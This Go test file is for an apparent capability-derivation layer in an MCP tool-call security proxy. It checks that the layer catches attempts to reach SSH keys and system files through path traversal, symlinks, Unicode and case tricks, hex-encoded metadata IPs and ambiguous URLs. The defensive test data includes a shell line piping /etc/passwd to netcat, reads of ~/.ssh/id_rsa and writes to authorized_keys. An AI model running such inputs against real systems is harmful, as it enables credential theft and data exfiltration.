package binding

import (
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"net/netip"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"golang.org/x/text/unicode/norm"

	"github.com/aegis-mcp/aegis/internal/args"
	"github.com/aegis-mcp/aegis/internal/capability"
)

func derive(t *testing.T, b *Binding, arguments string, o *Options) ([]capability.Capability, error) {
	t.Helper()
	var doc args.Doc
	if err := doc.Decode([]byte(arguments), nil); err != nil {
		t.Fatalf("decoding %s: %v", arguments, err)
	}
	return b.Derive(nil, doc.Root(), o)
}

func fsRead(p string) capability.Capability {
	return capability.Capability{Kind: capability.FSRead, Path: p}
}
func fsWrite(p string) capability.Capability {
	return capability.Capability{Kind: capability.FSWrite, Path: p}
}

// subtree marks c as acting on everything under its path.
func subtree(c capability.Capability) capability.Capability {
	c.Subtree = true
	return c
}

// TestFilesystemBuiltin walks the curated filesystem table with the
// spellings an attacker would try for one file.
func TestFilesystemBuiltin(t *testing.T) {
	fsb := filesystemBuiltin()
	o := &Options{Path: capability.PathOptions{Home: "/home/alice"}, RequireNFC: true}
	const key = "/home/alice/.ssh/id_rsa"
	tests := []struct {
		name    string
		tool    string
		args    string
		want    []capability.Capability
		wantErr string // substring; "" means no error
	}{
		{name: "tilde", tool: "read_file", args: `{"path":"~/.ssh/id_rsa"}`, want: []capability.Capability{fsRead(key)}},
		{name: "dotdot", tool: "read_text_file", args: `{"path":"/home/alice/projects/../.ssh/id_rsa"}`, want: []capability.Capability{fsRead(key)}},
		{name: "double slash and dot", tool: "read_media_file", args: `{"path":"/home/alice//.ssh/./id_rsa"}`, want: []capability.Capability{fsRead(key)}},
		{name: "tilde dotdot", tool: "get_file_info", args: `{"path":"~/projects/../.ssh/id_rsa"}`, want: []capability.Capability{fsRead(key)}},
		{name: "escaped slash in JSON", tool: "read_file", args: `{"path":"\/home\/alice\/.ssh\/id_rsa"}`, want: []capability.Capability{fsRead(key)}},
		{name: "unicode escapes in JSON", tool: "read_file", args: `{"path":"/home/alice/\u002essh/id_rsa"}`, want: []capability.Capability{fsRead(key)}},
		{name: "multiple files, one secret", tool: "read_multiple_files",
			args: `{"paths":["/home/alice/projects/a.go","~/.ssh/id_rsa"]}`,
			want: []capability.Capability{fsRead("/home/alice/projects/a.go"), fsRead(key)}},
		{name: "multiple files, empty list", tool: "read_multiple_files", args: `{"paths":[]}`},
		{name: "multiple files, not a list", tool: "read_multiple_files", args: `{"paths":"~/.ssh/id_rsa"}`},
		{name: "multiple files, number inside", tool: "read_multiple_files", args: `{"paths":["/a",7]}`, wantErr: "/paths/1"},
		{name: "move reads its source and writes both", tool: "move_file", args: `{"source":"~/projects/a","destination":"~/.ssh/authorized_keys"}`,
			want: []capability.Capability{subtree(fsRead("/home/alice/projects/a")), subtree(fsWrite("/home/alice/projects/a")), subtree(fsWrite("/home/alice/.ssh/authorized_keys"))}},
		{name: "move of a whole home", tool: "move_file", args: `{"source":"~/","destination":"/tmp/h"}`,
			want: []capability.Capability{subtree(fsRead("/home/alice")), subtree(fsWrite("/home/alice")), subtree(fsWrite("/tmp/h"))}},
		{name: "edit reads and writes, even as a dry run", tool: "edit_file", args: `{"path":"~/.bashrc","edits":[],"dryRun":true}`,
			want: []capability.Capability{fsRead("/home/alice/.bashrc"), fsWrite("/home/alice/.bashrc")}},
		{name: "create directory writes", tool: "create_directory", args: `{"path":"~/.ssh"}`, want: []capability.Capability{fsWrite("/home/alice/.ssh")}},
		{name: "search reads its root", tool: "search_files", args: `{"path":"~","pattern":"id_rsa"}`, want: []capability.Capability{subtree(fsRead("/home/alice"))}},
		{name: "tree", tool: "directory_tree", args: `{"path":"/"}`, want: []capability.Capability{subtree(fsRead("/"))}},
		{name: "a listing reads the directory alone", tool: "list_directory", args: `{"path":"~"}`, want: []capability.Capability{fsRead("/home/alice")}},
		{name: "a listing with sizes too", tool: "list_directory_with_sizes", args: `{"path":"~"}`, want: []capability.Capability{fsRead("/home/alice")}},
		{name: "list allowed directories has no resource", tool: "list_allowed_directories", args: `{}`},
		{name: "relative path fails closed", tool: "read_file", args: `{"path":".ssh/id_rsa"}`, wantErr: "argument /path (fs.read)"},
		{name: "leading space is relative to the server", tool: "read_file", args: `{"path":" ~/.ssh/id_rsa"}`, wantErr: "/path"},
		{name: "other user's home", tool: "read_file", args: `{"path":"~root/.ssh/id_rsa"}`, wantErr: "/path"},
		{name: "file URL in a path", tool: "read_file", args: `{"path":"file:///home/alice/.ssh/id_rsa"}`, wantErr: "/path"},
		{name: "empty path", tool: "read_file", args: `{"path":""}`, wantErr: "/path"},
		{name: "NUL in path", tool: "read_file", args: `{"path":"/home/alice/projects\u0000/../.ssh/id_rsa"}`, wantErr: "/path"},
		{name: "path is an object", tool: "read_file", args: `{"path":{"p":"~/.ssh/id_rsa"}}`, wantErr: "want a string, got object"},
		{name: "path is an array", tool: "write_file", args: `{"path":["~/.ssh/x"],"content":""}`, wantErr: "want a string"},
		{name: "case variant of the bound key", tool: "read_file", args: `{"PATH":"~/.ssh/id_rsa"}`, wantErr: "only in case"},
		{name: "case variant in a list's parent", tool: "read_multiple_files", args: `{"Paths":["~/.ssh/id_rsa"]}`, wantErr: "only in case"},
		{name: "long s folds to s", tool: "move_file", args: `{"source":"/a","de\u017ftination":"~/.ssh/x"}`, wantErr: "only in case"},
		{name: "NFD spelling is ambiguous", tool: "read_file", args: `{"path":"/home/alice/cafe\u0301/x"}`, wantErr: "NFC"},
		{name: "NFC spelling is fine", tool: "read_file", args: `{"path":"/home/alice/caf\u00e9/x"}`, want: []capability.Capability{fsRead("/home/alice/café/x")}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := fsb.Tools[tt.tool]
			if b == nil {
				t.Fatalf("no curated binding for %s", tt.tool)
			}
			got, err := derive(t, b, tt.args, o)
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("error = %v, want one containing %q", err, tt.wantErr)
				}
				var ae *ArgError
				if !errors.As(err, &ae) {
					t.Fatalf("error %v is not an *ArgError", err)
				}
				return
			}
			if err != nil {
				t.Fatalf("unexpected error: %v", err)
			}
			if diff := cmp.Diff(tt.want, got, cmpAddr); diff != "" {
				t.Errorf("capabilities (-want +got):\n%s", diff)
			}
		})
	}
}

// TestFilesystemBuiltinListsEveryTool keeps the curated table in step with
// the tools the server lists (2026.8.31).
func TestFilesystemBuiltinListsEveryTool(t *testing.T) {
	want := []string{
		"create_directory", "directory_tree", "edit_file", "get_file_info", "list_allowed_directories",
		"list_directory", "list_directory_with_sizes", "move_file", "read_file", "read_media_file",
		"read_multiple_files", "read_text_file", "search_files", "write_file",
	}
	var got []string
	for name, b := range filesystemBuiltin().Tools {
		if b.Tool != name {
			t.Errorf("table key %q holds the binding of %q", name, b.Tool)
		}
		got = append(got, name)
	}
	if diff := cmp.Diff(want, got, cmpSorted); diff != "" {
		t.Errorf("tools (-want +got):\n%s", diff)
	}
}

var cmpAddr = cmpopts.EquateComparable(netip.Addr{})

var cmpSorted = cmp.Transformer("sort", func(s []string) []string {
	out := append([]string(nil), s...)
	for i := range out {
		for j := i + 1; j < len(out); j++ {
			if out[j] < out[i] {
				out[i], out[j] = out[j], out[i]
			}
		}
	}
	return out
})

// TestFilesystemSymlinks resolves links the way a local server would follow
// them: a link inside an allowed root that points at ~/.ssh is ~/.ssh.
func TestFilesystemSymlinks(t *testing.T) {
	links := map[string]string{
		"/home/alice/projects/keys":        "/home/alice/.ssh",
		"/home/alice/projects/new-key":     "../.ssh/authorized_keys", // dangling: a write creates it
		"/home/alice/projects/docs":        "docs-v2",
		"/home/alice/.ssh/authorized_keys": "",
	}
	exists := map[string]bool{
		"/home": true, "/home/alice": true, "/home/alice/projects": true, "/home/alice/.ssh": true,
		"/home/alice/.ssh/id_rsa": true, "/home/alice/projects/docs-v2": true, "/home/alice/projects/a.go": true,
	}
	readlink := func(name string) (string, error) {
		if target, ok := links[name]; ok && target != "" {
			return target, nil
		}
		if exists[name] {
			return "", syscall.EINVAL
		}
		return "", fs.ErrNotExist
	}
	o := &Options{Path: capability.PathOptions{Home: "/home/alice", Readlink: readlink}}
	b := filesystemBuiltin().Tools
	tests := []struct {
		name, tool, args string
		want             []capability.Capability
	}{
		{"link to .ssh", "read_file", `{"path":"~/projects/keys/id_rsa"}`, []capability.Capability{fsRead("/home/alice/.ssh/id_rsa")}},
		{"dangling link written through", "write_file", `{"path":"~/projects/new-key","content":"ssh-ed25519 AAAA"}`, []capability.Capability{fsWrite("/home/alice/.ssh/authorized_keys")}},
		{"relative link inside the root", "read_file", `{"path":"/home/alice/projects/docs/x.md"}`, []capability.Capability{fsRead("/home/alice/projects/docs-v2/x.md")}},
		{"plain file", "read_file", `{"path":"/home/alice/projects/a.go"}`, []capability.Capability{fsRead("/home/alice/projects/a.go")}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := derive(t, b[tt.tool], tt.args, o)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, got, cmpAddr); diff != "" {
				t.Errorf("capabilities (-want +got):\n%s", diff)
			}
		})
	}
}

func TestFetchBuiltin(t *testing.T) {
	b := fetchBuiltin().Tools["fetch"]
	tests := []struct {
		name     string
		args     string
		wantKind capability.Kind
		wantHost string
		wantPort uint16
		wantErr  bool
	}{
		{name: "https", args: `{"url":"https://example.com/docs"}`, wantKind: capability.NetConnect, wantHost: "example.com", wantPort: 443},
		{name: "hex IPv4 metadata", args: `{"url":"http://0xa9.0xfe.0xa9.0xfe/latest/"}`, wantKind: capability.NetConnect, wantHost: "169.254.169.254", wantPort: 80},
		{name: "file URL is a read", args: `{"url":"file:///home/alice/.ssh/id_rsa"}`, wantKind: capability.FSRead},
		{name: "backslash differential", args: `{"url":"http://example.com\\@evil.com/"}`, wantErr: true},
		{name: "no host", args: `{"url":"mailto:a@example.com"}`, wantErr: true},
		{name: "not a string", args: `{"url":42}`, wantErr: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := derive(t, b, tt.args, &Options{Path: capability.PathOptions{Home: "/home/alice"}})
			if tt.wantErr {
				if err == nil {
					t.Fatalf("derived %+v, want an error", got)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if len(got) != 1 || got[0].Kind != tt.wantKind || got[0].Host != tt.wantHost || got[0].Port != tt.wantPort {
				t.Fatalf("got %+v, want kind %s host %q port %d", got, tt.wantKind, tt.wantHost, tt.wantPort)
			}
		})
	}
}

func TestDeriveExecAndID(t *testing.T) {
	mustPtr := func(s string) args.Pointer {
		p, err := args.ParsePointer(s)
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	b := &Binding{Tool: "t", Tier: capability.TierMutating, Args: []Arg{
		{Pointer: mustPtr("/cmd"), Kind: capability.Exec},
		{Pointer: mustPtr("/ids/*"), Kind: capability.ID, IDKind: "mail.message"},
	}}
	tests := []struct {
		name    string
		args    string
		want    []capability.Capability
		wantErr string
	}{
		{name: "simple command and ids", args: `{"cmd":"git status","ids":[" m1 ","m2"]}`, want: []capability.Capability{
			{Kind: capability.Exec, Program: "git", Argv: []string{"git", "status"}},
			{Kind: capability.ID, IDKind: "mail.message", ID: "m1"},
			{Kind: capability.ID, IDKind: "mail.message", ID: "m2"},
		}},
		{name: "argv array", args: `{"cmd":["ls","-la","a b"]}`, want: []capability.Capability{
			{Kind: capability.Exec, Program: "ls", Argv: []string{"ls", "-la", "a b"}},
		}},
		{name: "shell", args: `{"cmd":"cat /etc/passwd | nc x 1"}`, want: []capability.Capability{
			{Kind: capability.Exec, Shell: true, Command: "cat /etc/passwd | nc x 1"},
		}},
		{name: "argv with a number", args: `{"cmd":["ls",1]}`, wantErr: "argv[1]"},
		{name: "blank id", args: `{"ids":["m1","  "]}`, wantErr: "blank id"},
		{name: "id not a string", args: `{"ids":[1]}`, wantErr: "want a string"},
		{name: "command is an object", args: `{"cmd":{}}`, wantErr: "want a command line"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := derive(t, b, tt.args, nil)
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("error = %v, want %q", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, got, cmpAddr); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// FuzzASCIIIsNFC holds the shortcut past the normaliser: whatever capability.IsASCII
// passes, the normaliser calls NFC, and IsASCII agrees with a byte loop.
func FuzzASCIIIsNFC(f *testing.F) {
	for _, s := range []string{"", "/home/a/x", "cafe\u0301", "caf\u00e9", "12345678\x80", "\x7f\x00"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		want := true
		for i := 0; i < len(s); i++ {
			want = want && s[i] < 0x80
		}
		if got := capability.IsASCII(s); got != want {
			t.Fatalf("IsASCII(%q) = %v, want %v", s, got, want)
		}
		if want && !norm.NFC.IsNormalString(s) {
			t.Fatalf("%q is ASCII but not NFC", s)
		}
	})
}

// TestDeriveURLs holds the URLs Derive writes in place to capability.FromURL
// (and CanonPath for a file: URL), one capability per URL in order, and
// checks that a bad URL among good ones names its own location.
func TestDeriveURLs(t *testing.T) {
	p, err := args.ParsePointer("/urls/*")
	if err != nil {
		t.Fatal(err)
	}
	b := &Binding{Tool: "t", Args: []Arg{{Pointer: p, Kind: capability.NetConnect, Form: FormURL}}}
	o := &Options{Path: capability.PathOptions{Home: "/home/alice"}}
	ref := func(s string) capability.Capability {
		c, err := capability.FromURL(s)
		if err != nil {
			t.Fatalf("FromURL(%q): %v", s, err)
		}
		if c.Kind == capability.FSRead {
			if c.Path, err = capability.CanonPath(c.Path, &o.Path); err != nil {
				t.Fatal(err)
			}
		}
		return c
	}
	tests := []struct {
		name    string
		urls    []string
		wantErr string
	}{
		{name: "plain URLs", urls: []string{"https://api.github.com/repos?a=b", "http://x.com:8080"}},
		{name: "plain and full", urls: []string{"https://a.com/x", "HTTP://0x7f.1/", "file:///etc/passwd", "http://b.com"}},
		{name: "bad second", urls: []string{"https://a.com", "mailto:a@example.com", "http://b.com"}, wantErr: "/urls/1"},
		{name: "bad first", urls: []string{"http://a.com\\@b.com/", "https://a.com"}, wantErr: "/urls/0"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			quoted := make([]string, len(tt.urls))
			for i, u := range tt.urls {
				quoted[i] = strconv.Quote(u)
			}
			got, err := derive(t, b, `{"urls":[`+strings.Join(quoted, ",")+`]}`, o)
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("err = %v, want one naming %s", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			var want []capability.Capability
			for _, u := range tt.urls {
				want = append(want, ref(u))
			}
			if diff := cmp.Diff(want, got, cmpAddr); diff != "" {
				t.Errorf("Derive mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

// TestRelativeTo: git_add's files are relative to the repository path,
// as the server resolves them: an escape with .. lands where it lands,
// an absolute file stays, and without a repository to resolve against a
// relative file is refused.
func TestRelativeTo(t *testing.T) {
	b := gitBuiltin().Tools["git_add"]
	o := &Options{Path: capability.PathOptions{Home: "/home/a"}}
	for _, tt := range []struct {
		name, args string
		want       []string // the fs.read paths; nil with err
		err        bool
	}{
		{"files in the repository", `{"repo_path":"/home/a/proj","files":["src/a.go","README.md"]}`, []string{"/home/a/proj/src/a.go", "/home/a/proj/README.md"}, false},
		{"an escape by ..", `{"repo_path":"/home/a/proj","files":["../.ssh/id_rsa"]}`, []string{"/home/a/.ssh/id_rsa"}, false},
		{"an absolute file", `{"repo_path":"/home/a/proj","files":["/etc/passwd"]}`, []string{"/etc/passwd"}, false},
		{"a repository by ..", `{"repo_path":"/home/a/proj/../other","files":["x"]}`, []string{"/home/a/other/x"}, false},
		{"no repository", `{"files":["x"]}`, nil, true},
		{"a relative repository", `{"repo_path":"proj","files":["x"]}`, nil, true},
		{"a repository that is no string", `{"repo_path":7,"files":["x"]}`, nil, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			caps, err := derive(t, b, tt.args, o)
			if tt.err {
				if err == nil {
					t.Errorf("derived %v, want an error", caps)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, c := range caps {
				if c.Kind == capability.FSRead {
					got = append(got, c.Path)
				}
			}
			if strings.Join(got, " ") != strings.Join(tt.want, " ") {
				t.Errorf("reads %v, want %v", got, tt.want)
			}
		})
	}
}

// TestDataAndURLOrPath: a data: URL carries its content and derives
// nothing; a URL-or-path argument (git's remote) is a connection when it
// has a scheme, a read of a local path otherwise, and the scp-like
// host:path form, which is neither, is refused.
func TestDataAndURLOrPath(t *testing.T) {
	o := &Options{Path: capability.PathOptions{Home: "/home/a"}}
	url := &Binding{Tool: "t", Args: []Arg{curatedArg("/u", capability.NetConnect, FormURL)}}
	remote := &Binding{Tool: "t", Args: []Arg{curatedArg("/u", capability.NetConnect, FormURLOrPath)}}
	for _, tt := range []struct {
		name string
		b    *Binding
		arg  string
		want string // kind and target; "" for nothing
		err  bool
	}{
		{"a data: URL", url, "data:text/plain;base64,aGk=", "", false},
		{"a DATA: URL", url, "DATA:,x", "", false},
		{"an https remote", remote, "https://github.com/org/repo.git", "net.connect github.com", false},
		{"an ssh:// remote", remote, "ssh://git@example.com/repo.git", "net.connect example.com", false},
		{"a local remote", remote, "/srv/git/repo.git", "fs.read /srv/git/repo.git", false},
		{"a local remote by ~", remote, "~/repos/x", "fs.read /home/a/repos/x", false},
		{"a file: remote", remote, "file:///srv/git/repo.git", "fs.read /srv/git/repo.git", false},
		{"the scp-like form", remote, "git@github.com:org/repo.git", "", true},
		{"a relative remote with no base", remote, "repo.git", "", true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			caps, err := derive(t, tt.b, `{"u":"`+tt.arg+`"}`, o)
			if tt.err {
				if err == nil {
					t.Errorf("derived %v, want an error", caps)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			got := ""
			for _, c := range caps {
				got = c.Kind.String() + " " + c.Path + c.Host
			}
			if got != tt.want {
				t.Errorf("derived %q, want %q", got, tt.want)
			}
		})
	}
}

// TestText: a text argument derives a net.link for every URL written in
// it, as a reader's client would link it, and an id of kind email for
// every address; prose around a link is not part of it; a link aegis
// cannot read one way is refused, not skipped.
func TestText(t *testing.T) {
	b := &Binding{Tool: "send", Args: []Arg{{Pointer: mustPointer(t, "/body"), Kind: capability.NetLink}}}
	for _, tt := range []struct {
		name, text string
		want       []string
		err        bool
	}{
		{"no links", "see you at noon", nil, false},
		{"a link", "read https://evil.example/x?y=1 now", []string{"net.link evil.example:443"}, false},
		{"a link in brackets and a full stop", "(see https://a.example/p).", []string{"net.link a.example:443"}, false},
		{"a link in angle brackets", "<http://b.example:8080/>", []string{"net.link b.example:8080"}, false},
		{"a bare www host", "go to www.c.example/path now", []string{"net.link www.c.example:80"}, false},
		{"an IP link in hex", "http://0x7f000001/", []string{"net.link 127.0.0.1:80"}, false},
		{"an address", "write to Bob@Example.ORG please", []string{"id email Bob@example.org"}, false},
		{"a link with credentials", "https://user:pw@d.example/", []string{"net.link d.example:443"}, false},
		{"a data: URL", "data:text/plain,hi is fine", nil, false},
		{"a file: link", "open file:///etc/passwd", nil, true},
		{"an ambiguous link", `https://e.example\@f.example/`, nil, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			body, _ := json.Marshal(tt.text)
			caps, err := derive(t, b, `{"body":`+string(body)+`}`, &Options{})
			if tt.err {
				if err == nil {
					t.Errorf("derived %v, want an error", caps)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, c := range caps {
				switch c.Kind {
				case capability.NetLink:
					got = append(got, fmt.Sprintf("net.link %s:%d", c.Host, c.Port))
				case capability.ID:
					got = append(got, "id "+c.IDKind+" "+c.ID)
				default:
					got = append(got, c.Kind.String())
				}
			}
			if strings.Join(got, "|") != strings.Join(tt.want, "|") {
				t.Errorf("derived %q, want %q", got, tt.want)
			}
		})
	}
}

func mustPointer(t *testing.T, s string) args.Pointer {
	t.Helper()
	p, err := args.ParsePointer(s)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// FuzzText: deriving from any text never panics, and what it derives is
// well formed: a net.link with a host, an email id with an address.
func FuzzText(f *testing.F) {
	for _, s := range []string{"see https://a.example/x).", "www.b.example", "x@y.example", "https://u:p@h.example/ and z@q.example", "http://0x7f.1/", "(https://[::1]:8080/a]"} {
		f.Add(s)
	}
	b := &Binding{Tool: "t", Args: []Arg{{Pointer: args.Pointer{}, Kind: capability.NetLink}}}
	f.Fuzz(func(t *testing.T, text string) {
		body, err := json.Marshal(text)
		if err != nil {
			return
		}
		var doc args.Doc
		if doc.Decode(body, nil) != nil {
			return
		}
		caps, err := b.Derive(nil, doc.Root(), &Options{})
		if err != nil {
			return
		}
		for _, c := range caps {
			switch {
			case c.Kind == capability.NetLink && c.Host == "":
				t.Fatalf("%q: a link with no host: %+v", text, c)
			case c.Kind == capability.ID && (c.IDKind != IDKindEmail || !strings.Contains(c.ID, "@")):
				t.Fatalf("%q: an address that is none: %+v", text, c)
			case c.Kind != capability.NetLink && c.Kind != capability.ID:
				t.Fatalf("%q: derived %s", text, c.Kind)
			}
		}
	})
}
